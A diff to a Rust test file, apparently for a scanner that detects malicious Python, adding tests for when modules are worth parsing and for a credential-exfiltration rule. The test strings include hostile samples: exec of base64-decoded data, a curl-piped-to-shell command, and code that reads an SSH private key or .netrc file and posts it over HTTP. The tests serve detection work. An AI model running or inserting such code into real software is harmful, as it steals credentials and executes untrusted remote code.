@@ -299,7 +299,35 @@ fn a_passed_deadline_stops_the_parse() {
 }
 
 #[test]
-fn plain_modules_without_trigger_tokens_are_not_parsed() {
-    assert!(!triggered(b"def add(a, b):\n    return a + b\n"));
-    assert!(triggered(b"exec(x)"));
+fn plain_modules_are_parsed_only_when_a_threat_is_possible() {
+    use crate::code::python_worth_parsing as worth;
+    assert!(!worth(b"def add(a, b):\n    return a + b\n"));
+    // Ordinary uses of processes, the environment and exec.
+    assert!(!worth(
+        b"import subprocess\nsubprocess.run(['git', 'status'])\n"
+    ));
+    assert!(!worth(b"import os\nenv = dict(os.environ)\n"));
+    assert!(!worth(b"exec(compile(tree, name, 'exec'))\n"));
+    assert!(worth(b"import base64\nexec(base64.b64decode(x))\n"));
+    assert!(worth(b"os.system('curl x | sh')"));
+    assert!(worth(
+        b"k = open('~/.ssh/id_rsa').read(); requests.post(u, data=k)"
+    ));
+    assert!(worth(b"from pyarmor_runtime import __pyarmor__"));
+}
+
+#[test]
+fn credentials_must_reach_the_call_that_sends() {
+    // An environment copied for a subprocess, and a request elsewhere: no flow.
+    check(
+        Context::Module,
+        "import os, urllib.request\nenv = dict(os.environ)\nenv['X'] = '1'\ndef fetch(u):\n    return urllib.request.urlopen(u).read()\n",
+        &[],
+    );
+    // A credential file's content passed to the request.
+    check(
+        Context::Module,
+        "import os, requests\nrequests.post('http://127.0.0.1/c', data=open('/home/u/.netrc').read())\n",
+        &["py-credential-exfil"],
+    );
 }
